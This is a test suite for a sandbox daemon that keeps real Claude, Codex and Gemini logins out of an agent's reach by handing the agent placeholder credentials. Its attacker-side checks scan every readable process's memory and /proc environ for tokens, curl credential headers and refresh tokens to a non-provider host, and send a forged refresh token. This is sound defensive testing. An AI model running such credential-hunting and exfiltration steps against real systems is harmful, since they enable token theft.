"""Issue 45 item 1, from inside a real agent with the real Claude Code (the
vendor's npm package, pinned in scripts/setup, run from
/opt/leviath-dev/npm/prefix, which the fence shows read-only): alice is
logged in on the host (~/.claude/.credentials.json, OAuth tokens) and her
`lev run` environment passes ANTHROPIC_API_KEY. No configuration beyond the
test's network openings.

The STAND-IN for Anthropic's API is a TLS server of the test's in a network
namespace ("outside", 10.81.0.2; the proxy reaches it through `[proxy]
private_ranges`), its certificate for api.anthropic.com and other.test from a
test CA installed in the bed's trust store, api.anthropic.com resolved to it
by the bed's /etc/hosts. It answers /v1/messages with a reply of its own and
logs each request's Host, Authorization and x-api-key.

- `claude -p` logged in by OAuth and by API key gets the stand-in's reply,
  and the stand-in saw the real token and key;
- while claude runs, no real secret is in any /proc/*/environ or cmdline the
  agent reads, nor its environment, nor any file under its home (the
  real ~/.claude included), workdir, /tmp or /run/leviath;
- while claude is held on the stand-in's answer (its login loaded and
  sent), the memory of every process alice's agent can read holds claude's
  placeholder and no real secret;
- the placeholders sent to other.test (allowed, not Anthropic's) arrive as
  they are;
- the CLI's own refresh inside (the real claude, its placeholder file's copy
  made expired) is answered by the daemon: the STAND-IN token endpoint
  (platform.claude.com, the same server) gets alice's real refresh token,
  her host file the new tokens, the CLI the same placeholders, and its next
  request carries the new token; a forged refresh token is refused (nothing
  sent, nothing written) and the placeholder sent to another host goes as it is;
- a refresh of alice's login on the host and a daemon restart later, claude
  inside (the same placeholder) reaches the stand-in with the new token;
- the real Codex (`codex login status`) reads its placeholder ~/.codex/auth.json
  as a login, and the placeholders of Codex's and Gemini CLI's logins and
  keys, sent by curl as those CLIs send them, reach the stand-ins of
  api.openai.com, cloudcode-pa.googleapis.com and
  generativelanguage.googleapis.com real, other.test as they are.
On the code before this change the agent's ~/.claude/.credentials.json held
the real tokens, its ANTHROPIC_API_KEY the real key, and `codex login
status` showed the real key's end: all three tests failed (seen).
"""

from __future__ import annotations

import contextlib
import json
import os
from collections.abc import Iterator

import pytest
from loop_agent import lay_out
from test_egress_credentials import answering
from test_gate_bed import Agent
from testbed import Testbed

pytestmark = pytest.mark.testbed

CLAUDE = "/opt/leviath-dev/npm/prefix/bin/claude"
CODEX = "/opt/leviath-dev/npm/prefix/bin/codex"
OUTSIDE = "10.81.0.2"
ACCESS = "sk-ant-oat01-RealAccess0Token0Of0Alice0xq7Lm2Vb9Kd4Hs1Wf6Jp3Nc8Rt5Yg0"
# What alice's Claude Code on the host refreshed it to, during the test.
ACCESS_AFTER = "sk-ant-oat01-RealAccess0Token0After0Refresh0Pk5Jq8Wm1Xn4Bz7Cv2Dh"
REFRESH = "sk-ant-ort01-RealRefresh0Token0Of0Alice0Zu8Pe1Ox4Mi7Ky2Gl5Db9Sa3Fj6"
API_KEY = "sk-ant-api03-RealApi0Key0Of0Alice0Bn4Cv7Xz1Lk8Jh2Gf5Ds9Aq3Wr6Ey0Tu"
# Codex (the real CLI reads its file) and Gemini CLI (not installed here:
# its file's shape, sent by curl the way the CLI sends it).
OPENAI_KEY = "sk-proj-RealOpenai0Key0Of0Alice0Mq3Wn8Rb1Tc6Yd4Vf9Hg2Jk5Lp7Zx0Qs"
GOOGLE_ACCESS = "ya29.RealGoogle0Access0Of0Alice0Ab3Cd5Ef7Gh9Ij2Kl4Mn6Op8Qr1St"
GOOGLE_REFRESH = "1//RealGoogle0Refresh0Of0Alice0Uv3Wx5Yz7Ab9Cd2Ef4Gh6Ij8Kl1"
GEMINI_KEY = "AIzaRealGemini0Key0Of0Alice0Mn3Op5Qr7St9Uv2Wx4Yz6"
SECRETS = (ACCESS, REFRESH, API_KEY, OPENAI_KEY, GOOGLE_ACCESS, GOOGLE_REFRESH, GEMINI_KEY)
ENV = {"ANTHROPIC_API_KEY": API_KEY, "OPENAI_API_KEY": OPENAI_KEY, "GEMINI_API_KEY": GEMINI_KEY}

BLUEPRINT = """
[agent]
name = "clilogins"
description = "runs the test's commands"
command = ["sh", "loop.sh"]
"""

CONFIG = """
[sandbox]
kind = "namespace"

[security]
env_pass = ["ANTHROPIC_API_KEY", "OPENAI_API_KEY", "GEMINI_API_KEY"]

[proxy]
private_ranges = ["10.81.0.0/24"]
"""

LOGIN = json.dumps({"claudeAiOauth": {
    "accessToken": ACCESS, "refreshToken": REFRESH, "expiresAt": 4102444800000,
    "scopes": ["user:inference", "user:profile"], "subscriptionType": "max"}})
CODEX_LOGIN = json.dumps({"OPENAI_API_KEY": OPENAI_KEY, "tokens": None, "last_refresh": None})
GEMINI_LOGIN = json.dumps({"access_token": GOOGLE_ACCESS, "refresh_token": GOOGLE_REFRESH,
                           "scope": "https://www.googleapis.com/auth/cloud-platform",
                           "token_type": "Bearer", "expiry_date": 4102444800000})
HOSTS = ("api.anthropic.com", "platform.claude.com", "api.openai.com",
         "cloudcode-pa.googleapis.com", "generativelanguage.googleapis.com", "other.test")
# What the STAND-IN token endpoint (platform.claude.com) gives for a refresh.
NEW_ACCESS = "sk-ant-oat01-NewAccess0From0The0Standin0Endpoint0Hq4Wz8Ly1Nc5Vr3Ke"
NEW_REFRESH = "sk-ant-ort01-NewRefresh0From0The0Standin0Endpoint0Ub6Jt2Xo9Sm4Dg7"

SERVER = f"""
import http.server, json, ssl, threading

# A model request whose prompt holds HOLD waits, the CLI blocked on it with
# its login loaded, until GET /release: the memory scan inside the agent runs
# in that window, which /held reports open (no timing on either side).
HOLD = b"hold-for-scan"
held = []
release = threading.Event()

def event(name, data):
    return f"event: {{name}}\\ndata: {{json.dumps(data)}}\\n\\n"

REPLY = "standin-pong"
MESSAGE = {{"id": "msg_standin", "type": "message", "role": "assistant",
           "model": "claude-standin", "content": [], "stop_reason": None,
           "stop_sequence": None, "usage": {{"input_tokens": 1, "output_tokens": 1}}}}
SSE = "".join([
    event("message_start", {{"type": "message_start", "message": MESSAGE}}),
    event("content_block_start", {{"type": "content_block_start", "index": 0,
                                   "content_block": {{"type": "text", "text": ""}}}}),
    event("content_block_delta", {{"type": "content_block_delta", "index": 0,
                                   "delta": {{"type": "text_delta", "text": REPLY}}}}),
    event("content_block_stop", {{"type": "content_block_stop", "index": 0}}),
    event("message_delta", {{"type": "message_delta", "usage": {{"output_tokens": 1}},
                             "delta": {{"stop_reason": "end_turn", "stop_sequence": None}}}}),
    event("message_stop", {{"type": "message_stop"}})]).encode()
WHOLE = json.dumps({{**MESSAGE, "content": [{{"type": "text", "text": REPLY}}],
                    "stop_reason": "end_turn"}}).encode()
# The stand-in token endpoint's answer to a refresh (id_token: a secret of
# another name, which the agent must not get either).
TOKENS = json.dumps({{"token_type": "Bearer", "access_token": "{NEW_ACCESS}",
                     "refresh_token": "{NEW_REFRESH}", "expires_in": 28800,
                     "scope": "user:inference user:profile", "id_token": "{NEW_ACCESS}x",
                     "account": {{"uuid": "standin-account"}}}}).encode()

class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def serve(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        try:
            refresh = str(json.loads(body).get("refresh_token", ""))
        except Exception:
            refresh = ""
        with open("/srv/cli45/log.jsonl", "a") as f:
            f.write(json.dumps({{"host": self.headers.get("Host", ""), "path": self.path,
                                "auth": self.headers.get("Authorization", ""),
                                "key": self.headers.get("x-api-key", ""),
                                "goog": self.headers.get("x-goog-api-key", ""),
                                "refresh": refresh}}) + "\\n")
        if self.path == "/held":
            out, kind = str(len(held)).encode(), "text/plain"
        elif self.path == "/release":
            release.set()
            out, kind = b"released", "text/plain"
        elif self.path == "/v1/oauth/token":
            out, kind = TOKENS, "application/json"
        elif self.path.startswith("/v1/messages"):
            if HOLD in body:
                held.append(1)
                release.wait(120)
            out = SSE if b'"stream":true' in body else WHOLE
            kind = "text/event-stream" if out is SSE else "application/json"
        else:
            out, kind = b"{{}}", "application/json"
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)

    do_GET = do_POST = serve

    def setup(self):
        # Each handshake in its own thread: the proxy's connection for a
        # request the daemon answers itself sends no hello, and must not
        # hold up the daemon's own connection behind it.
        self.request.do_handshake()
        super().setup()

    def log_message(self, *args):
        pass

srv = http.server.ThreadingHTTPServer(("{OUTSIDE}", 443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain("/srv/cli45/tls.pem", "/srv/cli45/tls.key")
srv.socket = ctx.wrap_socket(srv.socket, server_side=True, do_handshake_on_connect=False)
srv.serve_forever()
"""


# The end of the Codex and Gemini CLI stand-ins (test_codex_refresh.py,
# test_gemini_refresh.py): the answer `code`, `kind`, `out` written, each
# handshake in its own thread, served on the outside address with the
# stand-in's certificate.
SERVE_TAIL = f"""        self.send_response(code)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)

    do_GET = do_POST = serve

    def setup(self):
        self.request.do_handshake()
        super().setup()

    def log_message(self, *args):
        pass

srv = http.server.ThreadingHTTPServer(("{OUTSIDE}", 443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain("/srv/cli45/tls.pem", "/srv/cli45/tls.key")
srv.socket = ctx.wrap_socket(srv.socket, server_side=True, do_handshake_on_connect=False)
srv.serve_forever()
"""

def stand_in_log(bed: Testbed) -> list[dict[str, str]]:
    out = bed.run(["cat", "/srv/cli45/log.jsonl"], check=False).stdout
    return [json.loads(line) for line in out.splitlines() if line.strip()]


@contextlib.contextmanager
def stand_in(bed: Testbed, server: str = SERVER, hosts: tuple[str, ...] = HOSTS
             ) -> Iterator[None]:
    """The outside namespace and the stand-in (`server`, for `hosts`), the
    test CA in the bed's trust store, /etc/hosts, and the daemon restarted
    with CONFIG; all undone after."""
    old_config = bed.run("cat /etc/leviath/config.toml 2>/dev/null", check=False).stdout
    old_hosts = bed.read_file("/etc/hosts")
    bed.run(f"""
        set -e
        ip netns del lvcl 2>/dev/null || true
        ip link del lvch 2>/dev/null || true
        ip netns add lvcl
        ip link add lvch type veth peer name lvcs netns lvcl
        ip addr add 10.81.0.1/24 dev lvch
        ip link set lvch up
        ip netns exec lvcl ip addr add {OUTSIDE}/24 dev lvcs
        ip netns exec lvcl ip link set lvcs up
        ip netns exec lvcl ip link set lo up
        rm -rf /srv/cli45 && mkdir -p /srv/cli45 && cd /srv/cli45
        openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=cli45testca \
            -keyout ca.key -out ca.pem 2>/dev/null
        openssl req -newkey rsa:2048 -nodes -subj /CN=api.anthropic.com -keyout tls.key \
            -out tls.csr 2>/dev/null
        printf 'subjectAltName={",".join("DNS:" + h for h in hosts)}\\n' > san.ext
        openssl x509 -req -in tls.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 \
            -extfile san.ext -out tls.pem 2>/dev/null
        cp ca.pem /usr/local/share/ca-certificates/leviath-cli45test.crt
        update-ca-certificates >/dev/null 2>&1
    """)
    bed.write_file("/etc/hosts", f"127.0.0.1 localhost\n{OUTSIDE} {' '.join(hosts)}\n")
    bed.write_file("/srv/cli45/server.py", server)
    pid = bed.run("setsid ip netns exec lvcl python3 /srv/cli45/server.py "
                  ">/srv/cli45/server.err 2>&1 </dev/null & echo $!").stdout.strip()
    bed.run("for i in $(seq 100); do curl -fs https://other.test/ready >/dev/null && exit 0; "
            "sleep 0.1; done; cat /srv/cli45/server.err; exit 1")
    bed.run("rm -f /srv/cli45/log.jsonl")
    bed.write_file("/etc/leviath/config.toml", CONFIG)
    bed.run(["systemctl", "restart", "leviathd"])
    try:
        yield
    finally:
        bed.run(["kill", pid], check=False)
        bed.run("ip netns del lvcl; rm -f /usr/local/share/ca-certificates/leviath-cli45test.crt"
                " && update-ca-certificates --fresh >/dev/null 2>&1", check=False)
        bed.write_file("/etc/hosts", old_hosts)
        bed.write_file("/etc/leviath/config.toml", old_config)
        bed.run(["systemctl", "restart", "leviathd"])


@pytest.fixture(scope="module")
def agent(testbed: Testbed) -> Iterator[Agent]:
    bed = testbed
    if not os.path.exists(CLAUDE):
        pytest.fail(f"{CLAUDE} is missing: run scripts/setup (it fetches the pinned npm packages)")
    home = bed.users["alice"].home
    files = {".claude/.credentials.json": LOGIN, ".codex/auth.json": CODEX_LOGIN,
             ".gemini/oauth_creds.json": GEMINI_LOGIN}
    for rel, text in files.items():
        assert bed.run(["test", "-e", f"{home}/{rel}"], check=False).returncode != 0, rel
        bed.run(["sh", "-c", 'mkdir -p -m 700 "$(dirname "$1")" && umask 077 && cat > "$1"',
                 "login", rel], user="alice", cwd=home, input=text)
    # Claude Code reads ~/.claude.json first: a leftover of another module
    # would fail every claude below for a reason of its own.
    state = bed.run(["cat", f"{home}/.claude.json"], user="alice", check=False)
    if state.returncode == 0:
        json.loads(state.stdout)
    # As on a machine where she has used Claude Code before: its session
    # folder exists (entries the agent makes at the top of ~/.claude are its
    # own, docs/sandbox.md).
    bed.run(["mkdir", "-p", "-m", "700", f"{home}/.claude/projects"], user="alice")
    lay_out(bed, "clw", "clbp", BLUEPRINT)
    try:
        with stand_in(bed):
            out = bed.run(["lev", "run", "--detach", f"{home}/clbp"], user="alice",
                          cwd=f"{home}/clw", env=ENV).stdout.strip()
            assert len(out) == 8, out
            with answering(bed, Agent(bed, "alice", out, f"{home}/clw")) as a:
                yield a
    finally:
        bed.run(["rm", "-f", *(f"{home}/{rel}" for rel in files)], check=False)
        bed.run(["rm", "-rf", f"{home}/.claude/projects"], check=False)


def _split(secret: str) -> str:
    """The secret as a shell word that is not its bytes in a row, so that
    the script itself (written under the workdir) is no hit of its own scan."""
    return f"'{secret[:16]}''{secret[16:]}'"


PATTERNS = " ".join(f"-e {_split(s)}" for s in SECRETS)
RUN = f"CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1 timeout 90 {CLAUDE} -p 'say hello'"

# Inside the agent: claude logged in by OAuth (the key unset) in the
# background while every /proc/*/environ and cmdline is scanned, then by the
# key; the agent's environment and files scanned after.
PROBE = f"""
env -u ANTHROPIC_API_KEY {RUN} > oauth.out 2>&1 &
claude=$!
hits=""
while kill -0 $claude 2>/dev/null; do
  for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
    grep -q -a {PATTERNS} "$f" 2>/dev/null && hits="$hits $f"
  done
done
wait $claude; echo "oauth=$?"
{RUN} > key.out 2>&1; echo "key=$?"
env | grep -c -a {PATTERNS}
grep -r -l -a {PATTERNS} "$HOME" . /tmp /run/leviath 2>/dev/null | head
echo "hits:$hits"
"""


def test_claude_code_works_with_the_real_login_that_never_enters_the_agent(
        testbed: Testbed, agent: Agent) -> None:
    rc, out, err = agent.call(PROBE, timeout=240)
    assert rc == 0, (out, err)
    lines = out.splitlines()
    replies = {name: testbed.read_file(f"{agent.workdir}/{name}.out")
               for name in ("oauth", "key")}
    # Both logins: claude printed the stand-in's reply.
    assert lines[:2] == ["oauth=0", "key=0"], (out, err, replies)
    assert all("standin-pong" in r for r in replies.values()), replies
    # No secret in the environment, any file it reads, or any process's
    # environ or command line (a file found is a line of its own here).
    assert lines[2:] == ["0", "hits:"], out
    to_api = [e for e in stand_in_log(testbed) if e["host"] == "api.anthropic.com"]
    assert {"Bearer " + ACCESS} <= {e["auth"] for e in to_api}, to_api
    assert API_KEY in {e["key"] for e in to_api}, to_api
    assert not any(s in out + err + "".join(replies.values()) for s in SECRETS)


# Inside the agent, as alice: the scanner starts claude (so that claude is its
# child, as an attacker's own process would have it) logged in by OAuth, with
# a prompt the stand-in holds; once the stand-in holds it (claude has read its
# login and sent it), every process's memory the agent can read is searched
# for every real secret, and claude's for its placeholder (that the scan saw
# the login at all); then the stand-in lets claude finish. The secrets are
# written split, so that this script's text is no hit of its own.
MEMSCAN = f"""
import json, os, re, subprocess, sys, time
SECRETS = [{", ".join(f"{s[:16]!r} + {s[16:]!r}" for s in SECRETS)}]
placeholder = re.search(rb"sk-ant-oat01-[A-Za-z0-9_-]+", open(
    os.path.expanduser("~/.claude/.credentials.json"), "rb").read()).group()
env = {{k: v for k, v in os.environ.items() if k != "ANTHROPIC_API_KEY"}}
env["CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC"] = "1"
claude = subprocess.Popen(["timeout", "90", "{CLAUDE}", "-p", "hold-for-scan say hello"],
                          env=env, stdout=open("held.out", "wb"), stderr=subprocess.STDOUT)

def curl(path):
    return subprocess.run(["curl", "-fsS", "https://other.test" + path],
                          capture_output=True, text=True).stdout.strip()

deadline = time.monotonic() + 90
while curl("/held") in ("", "0"):
    if claude.poll() is not None or time.monotonic() > deadline:
        sys.exit("claude never reached the held request: " + open("held.out").read())
    time.sleep(0.1)

def tree(root):
    out, todo = [], [root]
    while todo:
        pid = todo.pop()
        out.append(pid)
        for task in os.listdir(f"/proc/{{pid}}/task"):
            with open(f"/proc/{{pid}}/task/{{task}}/children") as f:
                todo += [int(c) for c in f.read().split()]
    return out

def memory(pid):
    with open(f"/proc/{{pid}}/maps") as maps, open(f"/proc/{{pid}}/mem", "rb", 0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            if perms[0] != "r" or line.rstrip().endswith(("[vvar]", "[vsyscall]")):
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            try:
                mem.seek(start)
                yield mem.read(end - start)
            except OSError:
                continue

ours = set(tree(claude.pid))
found, hits, scanned, pids = False, [], 0, 0
for name in os.listdir("/proc"):
    if not name.isdigit() or int(name) == os.getpid():
        continue
    try:
        for chunk in memory(int(name)):
            scanned += len(chunk)
            hits += [name for s in SECRETS if s.encode() in chunk]
            found = found or (int(name) in ours and placeholder in chunk)
        pids += 1
    except OSError:
        continue
curl("/release")
rc = claude.wait()
print(json.dumps({{"rc": rc, "hits": hits, "placeholder_seen": found, "pids": pids,
                  "claude_pids": len(ours), "scanned": scanned}}))
"""


def test_no_process_the_agent_can_read_holds_a_real_secret_in_its_memory(
        testbed: Testbed, agent: Agent) -> None:
    """While the real claude is blocked on the STAND-IN's answer with its
    OAuth login loaded and sent, the memory of every process alice's agent
    can read (claude and its children among them) holds its placeholder and
    no real token or key."""
    testbed.write_file(f"{agent.workdir}/memscan.py", MEMSCAN)
    testbed.run(["chown", "alice:", f"{agent.workdir}/memscan.py"])
    rc, out, err = agent.call("python3 memscan.py", timeout=240)
    assert rc == 0, (out, err)
    got = json.loads(out.splitlines()[-1])
    reply = testbed.read_file(f"{agent.workdir}/held.out")
    assert got["rc"] == 0 and "standin-pong" in reply, (got, reply)
    # The scan read claude's memory (its placeholder is there), so a real
    # secret there would have been found.
    assert got["placeholder_seen"] and got["scanned"] > 10_000_000, got
    assert got["hits"] == [], got
    held = [e for e in stand_in_log(testbed)
            if e["host"] == "api.anthropic.com" and e["path"].startswith("/v1/messages")]
    assert held and held[-1]["auth"] == "Bearer " + ACCESS, held


def test_the_agent_holds_placeholders_of_the_same_shape_which_another_host_gets_as_they_are(
        testbed: Testbed, agent: Agent) -> None:
    rc, out, err = agent.call(
        "ph=$(grep -o 'sk-ant-oat01-[A-Za-z0-9_-]*' ~/.claude/.credentials.json); "
        "echo $ph; echo $ANTHROPIC_API_KEY; "
        'curl -fsS https://other.test/echo -H "Authorization: Bearer $ph" '
        '-H "x-api-key: $ANTHROPIC_API_KEY"')
    assert rc == 0, (out, err)
    access_ph, key_ph = out.splitlines()[:2]
    assert access_ph.startswith("sk-ant-oat01-") and access_ph != ACCESS
    assert key_ph.startswith("sk-ant-api03-") and key_ph != API_KEY
    to_other = [e for e in stand_in_log(testbed) if e["host"] == "other.test"]
    assert to_other and to_other[-1]["auth"] == "Bearer " + access_ph, to_other
    assert to_other[-1]["key"] == key_ph
    # The host's file is alice's and unchanged: the real tokens stay there.
    home = testbed.users["alice"].home
    assert json.loads(testbed.read_file(f"{home}/.claude/.credentials.json")) == json.loads(
        LOGIN)


def test_codex_and_gemini_logins_are_placeholders_swapped_toward_their_providers_only(
        testbed: Testbed, agent: Agent) -> None:
    """The real Codex reads its placeholder file as a login; the placeholders
    of Codex's key and Gemini CLI's OAuth token and key, sent as the CLIs
    send them, reach the stand-ins of their providers real (curl: the bed
    has no Gemini CLI, and Codex's Responses API over WebSocket has no
    stand-in here)."""
    script = f"""
{CODEX} login status 2>&1 | grep 'API key configured'
okey=$(grep -o 'sk-proj-[A-Za-z0-9_-]*' ~/.codex/auth.json)
gtok=$(grep -o 'ya29[.][A-Za-z0-9_-]*' ~/.gemini/oauth_creds.json)
echo $okey; echo $OPENAI_API_KEY; echo $gtok; echo $GEMINI_API_KEY
curl -fsS https://api.openai.com/v1/models -H "Authorization: Bearer $okey" >/dev/null
curl -fsS https://api.openai.com/v1/files -H "Authorization: Bearer $OPENAI_API_KEY" >/dev/null
curl -fsS https://cloudcode-pa.googleapis.com/v1internal:loadCodeAssist \\
  -H "Authorization: Bearer $gtok" >/dev/null
curl -fsS https://generativelanguage.googleapis.com/v1beta/models \\
  -H "x-goog-api-key: $GEMINI_API_KEY" >/dev/null
curl -fsS https://other.test/google -H "Authorization: Bearer $gtok" \\
  -H "x-goog-api-key: $GEMINI_API_KEY" >/dev/null
"""
    rc, out, err = agent.call(script, timeout=60)
    assert rc == 0, (out, err)
    status, okey, oenv, gtok, genv = out.splitlines()
    assert status.startswith("API key configured - sk-proj-***") and OPENAI_KEY[-5:] not in status
    assert okey.startswith("sk-proj-") and oenv.startswith("sk-proj-") and okey != oenv
    assert gtok.startswith("ya29.") and genv.startswith("AIza")
    assert not any(s in out + err for s in SECRETS)
    log = stand_in_log(testbed)
    by_path = {e["path"]: e for e in log}
    assert by_path["/v1/models"]["auth"] == "Bearer " + OPENAI_KEY
    assert by_path["/v1/files"]["auth"] == "Bearer " + OPENAI_KEY
    assert by_path["/v1internal:loadCodeAssist"]["auth"] == "Bearer " + GOOGLE_ACCESS
    assert by_path["/v1beta/models"]["goog"] == GEMINI_KEY
    assert by_path["/google"]["auth"] == "Bearer " + gtok and by_path["/google"]["goog"] == genv


def _refresh_body(token: str) -> str:
    """Claude Code 2.1.332's refresh request body, as its bundle builds it."""
    return json.dumps({"grant_type": "refresh_token", "refresh_token": token,
                       "client_id": "9d1c250a-e61b-44d9-88ed-5944d1962f5e",
                       "scope": "user:inference user:profile"})


def test_the_clis_refresh_is_answered_by_the_daemon_which_updates_the_hosts_file(
        testbed: Testbed, agent: Agent) -> None:
    """The refresh token travels in a body, never swapped. Attacker side
    first: the placeholder refresh token sent to another host arrives as it
    is; a forged refresh token toward the provider's token endpoint is
    refused, nothing reaches the STAND-IN token endpoint and the host's file
    is not written. Then the real claude, given an expired copy of its
    placeholder file (its own CLAUDE_CONFIG_DIR), refreshes: the daemon
    refreshes with alice's real refresh token at the stand-in, writes the
    new tokens into her file (other keys and mode kept), the CLI gets (and
    saves) the same placeholders only, and its next request reaches the
    stand-in with the NEW access token."""
    home = testbed.users["alice"].home
    host_file = f"{home}/.claude/.credentials.json"
    before = testbed.read_file(host_file)
    forged = "sk-ant-ort01-Forged0Token0Of0The0Agent0Kq2Wm7Xb4Zn8Lp3Vd6Rt"
    rc, out, err = agent.call(f"""
cred=~/.claude/.credentials.json
grep -o 'sk-ant-oat01-[A-Za-z0-9_-]*' $cred; rph=$(grep -o 'sk-ant-ort01-[A-Za-z0-9_-]*' $cred)
echo $rph
curl -fsS -o /dev/null https://other.test/v1/oauth/token -H 'Content-Type: application/json' \\
  -d "$(printf '%s' {json.dumps(_refresh_body("@PH@"))} | sed "s/@PH@/$rph/")"
curl -sS -o forged.out -w '%{{http_code}}\\n' https://platform.claude.com/v1/oauth/token \\
  -H 'Content-Type: application/json' -d {json.dumps(_refresh_body(forged))!r}
""", timeout=60)
    assert rc == 0, (out, err)
    access_ph, refresh_ph, forged_status = out.splitlines()
    assert refresh_ph.startswith("sk-ant-ort01-") and refresh_ph != REFRESH
    log = stand_in_log(testbed)
    to_other = [e for e in log if e["host"] == "other.test" and e["path"] == "/v1/oauth/token"]
    assert to_other and to_other[-1]["refresh"] == refresh_ph, to_other
    assert forged_status == "403", (out, testbed.read_file(f"{agent.workdir}/forged.out"))
    assert not [e for e in log if e["host"] == "platform.claude.com"], log
    assert testbed.read_file(host_file) == before
    mode = testbed.run(["stat", "-c", "%a %U", host_file]).stdout.strip()

    rc, out, err = agent.call(f"""
mkdir -p /tmp/cc && python3 -c '
import json, os
d = json.load(open(os.path.expanduser("~/.claude/.credentials.json")))
d["claudeAiOauth"]["expiresAt"] = 1000
json.dump(d, open("/tmp/cc/.credentials.json", "w"))'
CLAUDE_CONFIG_DIR=/tmp/cc env -u ANTHROPIC_API_KEY {RUN} > refreshed.out 2>&1; echo "claude=$?"
cat /tmp/cc/.credentials.json; echo
grep -r -l -a -e {_split(NEW_ACCESS)} -e {_split(NEW_REFRESH)} -e {_split(REFRESH)} \\
  /tmp "$HOME" . 2>/dev/null | head
""", timeout=150)
    assert rc == 0, (out, err)
    lines = out.splitlines()
    reply = testbed.read_file(f"{agent.workdir}/refreshed.out")
    assert lines[0] == "claude=0" and "standin-pong" in reply, (out, err, reply)
    log = stand_in_log(testbed)
    to_token = [e for e in log if e["host"] == "platform.claude.com"]
    # The daemon's own refresh, with alice's real refresh token.
    assert [e["refresh"] for e in to_token] == [REFRESH], to_token
    host = json.loads(testbed.read_file(host_file))["claudeAiOauth"]
    assert (host["accessToken"], host["refreshToken"]) == (NEW_ACCESS, NEW_REFRESH), host
    assert host["subscriptionType"] == "max" and host["expiresAt"] > 4102444800000 // 3
    assert testbed.run(["stat", "-c", "%a %U", host_file]).stdout.strip() == mode == "600 alice"
    # The CLI saved what it got: the agent's placeholders, nothing real.
    saved = json.loads(lines[1])["claudeAiOauth"]
    assert (saved["accessToken"], saved["refreshToken"]) == (access_ph, refresh_ph), saved
    assert lines[2:] == [], out
    to_api = [e for e in log if e["host"] == "api.anthropic.com"]
    assert to_api[-1]["auth"] == "Bearer " + NEW_ACCESS, to_api[-1]
    assert not any(s in out + err + reply for s in (NEW_ACCESS, NEW_REFRESH, REFRESH))


def test_a_refresh_on_the_host_and_a_daemon_restart_keep_the_login_working(
        testbed: Testbed, agent: Agent) -> None:
    """The egress reads the token again from the host's file: alice's
    Claude Code refreshed it outside (a new file renamed into place), the
    daemon restarted (the agent adopted), and claude inside, with the same
    placeholder, reaches the stand-in with the new token."""
    home = testbed.users["alice"].home
    login = json.loads(LOGIN)
    login["claudeAiOauth"]["accessToken"] = ACCESS_AFTER
    testbed.run(["sh", "-c", "umask 077 && cat > .claude/.new && "
                 "mv .claude/.new .claude/.credentials.json"], user="alice", cwd=home,
                input=json.dumps(login))
    # The attacker's side: a rename over the login's name on the host
    # detaches any mount on that name in every namespace; the agent, which
    # waited for it, must still read placeholders there and nothing real
    # anywhere in its ~/.claude (it read the new token on the code before).
    rc, out, err = agent.call(
        "cat ~/.claude/.credentials.json; echo; grep -r -l -a -e "
        f"{_split(ACCESS_AFTER)} -e {_split(REFRESH)} ~/.claude; "
        "echo written-inside > ~/.claude/projects/from-the-agent; echo rc=$?")
    assert rc == 0, (out, err)
    assert ACCESS_AFTER not in out and REFRESH not in out, out
    assert "claudeAiOauth" in out and out.rstrip().endswith("rc=0"), out
    # Its folder's entries are still the host's: what it writes there stays.
    assert testbed.read_file(f"{home}/.claude/projects/from-the-agent") == "written-inside\n"
    testbed.run(["systemctl", "restart", "leviathd"])
    rc, out, err = agent.call(f"env -u ANTHROPIC_API_KEY {RUN}", timeout=120)
    assert rc == 0 and "standin-pong" in out, (out, err)
    to_api = [e for e in stand_in_log(testbed) if e["host"] == "api.anthropic.com"]
    assert to_api[-1]["auth"] == "Bearer " + ACCESS_AFTER, to_api[-1]
    assert ACCESS_AFTER not in out + err

